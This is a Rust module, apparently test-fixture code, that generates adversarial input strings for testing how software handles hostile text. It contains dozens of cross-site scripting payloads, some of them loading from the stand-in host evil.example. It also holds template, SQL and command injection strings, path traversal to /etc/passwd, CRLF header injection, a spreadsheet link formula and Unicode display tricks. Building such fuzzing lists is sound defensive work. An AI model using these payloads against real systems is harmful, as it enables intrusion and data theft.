//! Texts that some program somewhere took for something else.

/// What is executed when it is taken for markup. `#` stands for a call that would show.
const MARKUP: [&str; 62] = [
    "<script>#</script>",
    "<SCRIPT>#</SCRIPT >",
    "<script src=//evil.example/x.js></script>",
    "<script\n>#</script\t>",
    "<script/x>#</script>",
    "<scr<script>ipt>#</scr</script>ipt>",
    "<script>/*</script>*/#<script>",
    "<img src=x onerror=#>",
    "<img/src=x/onerror=#>",
    "<img src=x onerror\n=\n#>",
    "<IMG SRC=\"javascript:#\">",
    "<img src=x:x onerror=`#`>",
    "<img srcset=x onerror=#>",
    "<image src=x onerror=#>",
    "<svg onload=#>",
    "<svg/onload=#>",
    "<svg><script>#</script></svg>",
    "<svg><script>&#97;lert(1)</script></svg>",
    "<svg><animate onbegin=# attributeName=x dur=1s>",
    "<svg><set onbegin=# attributename=x>",
    "<svg><a xlink:href=\"javascript:#\"><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>#</script>\"></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='#'/></svg>#x\"/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=#&gt;\">",
    "<math href=\"javascript:#\">x</math>",
    "<body onload=#>",
    "<body onpageshow=#>",
    "<html onmouseover=#>",
    "<iframe src=\"javascript:#\"></iframe>",
    "<iframe srcdoc=\"<img src=x onerror=#>\"></iframe>",
    "<iframe onload=#></iframe>",
    "<object data=\"javascript:#\"></object>",
    "<object data=\"data:text/html,<script>#</script>\"></object>",
    "<embed src=\"javascript:#\">",
    "<video src=x onerror=#></video>",
    "<video><source onerror=#></video>",
    "<audio src=x onerror=#></audio>",
    "<input autofocus onfocus=#>",
    "<textarea autofocus onfocus=#></textarea>",
    "<select autofocus onfocus=#></select>",
    "<details open ontoggle=#><summary>x</summary></details>",
    "<marquee onstart=#>x</marquee>",
    "<a href=\"javascript:#\">x</a>",
    "<a href=\"jav&#x09;ascript:#\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<form action=\"javascript:#\"><button>x</button></form>",
    "<button form=f formaction=\"javascript:#\">x</button>",
    "<isindex type=image src=1 onerror=#>",
    "<link rel=stylesheet href=\"//evil.example/x.css\">",
    "<link rel=import href=\"data:text/html,<script>#</script>\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:#\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=\"//evil.example/\">",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<div style=\"background:url(//evil.example/x)\">x</div>",
    "<div style=\"width:expression(#)\">x</div>",
    "<p onclick=# style=position:fixed;inset:0>x</p>",
    "<template><script>#</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=#>\">",
    "<xss id=x tabindex=1 onfocus=#></xss>",
    "<dialog open oncancel=#><form method=dialog><button>x</button></form></dialog>",
];

/// The ends of what a text may stand in, written in front of it.
const ENDS: [&str; 6] = ["", "\">", "'>", "</textarea>", "</title></style></p>", "--!>]]>"];

/// What templates and other interpreters evaluate.
const TEMPLATES: [&str; 24] = [
    "{{ 7 * 7 }}",
    "{{7*'7'}}",
    "{% raw %}",
    "{% for x in range(9) %}{{ x }}{% endfor %}",
    "{# comment #}",
    "{{ self }}",
    "{{ forms.csrf }}",
    "{{ t('send') }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7 * 7 %>",
    "[[${7*7}]]",
    "{{constructor.constructor('#')()}}",
    "<?php echo 7*7; ?>",
    "$(touch /tmp/x)",
    "`touch /tmp/x`",
    "'; DROP TABLE cases; --",
    "\" OR 1=1 --",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie:%20a=b",
    "\r\nSet-Cookie: a=b",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "{number} {by} {customer} {text}",
    "%s%n%x",
];

/// What turns, hides or stretches what is read.
const TRICKS: [&str; 16] = [
    "\u{202e}款退\u{202c}",
    "\u{2066}abc\u{2069}",
    "\u{200f}\u{200e}",
    "退\u{200b}款",
    "退\u{200d}款",
    "\u{feff}退款",
    "\u{e0061}\u{e0062}",
    "\u{ad}退\u{ad}款",
    "\u{3164}\u{115f}",
    "Z\u{334}\u{335}\u{336}a\u{337}l\u{338}g\u{321}o",
    "👩\u{200d}👩\u{200d}👧\u{200d}👦",
    "🏴\u{e0067}\u{e0062}\u{e0065}\u{e007f}",
    "\u{2028}第二行\u{2029}第三行",
    "\u{fdfd}\u{12031}",
    "\u{1}\u{8}\u{1b}[31m",
    "ｓｃｒｉｐｔ＜img＞",
];

/// All of ours: the markup behind each of the ends, templates, tricks.
pub(super) fn ours() -> Vec<String> {
    let call = "alert(document.domain)";
    let markup = MARKUP.iter().flat_map(|m| ENDS.iter().map(move |end| format!("{end}{}", m.replace('#', call))));
    markup.chain(TEMPLATES.iter().map(|t| t.replace('#', call))).chain(TRICKS.map(str::to_owned)).collect()
}

/// The Big List of Naughty Strings.
pub(super) fn naughty() -> Vec<String> {
    let lines = include_str!("../../data/naughty.jsonl").lines();
    lines.map(|line| serde_json::from_str(line).unwrap_or_default()).collect()
}
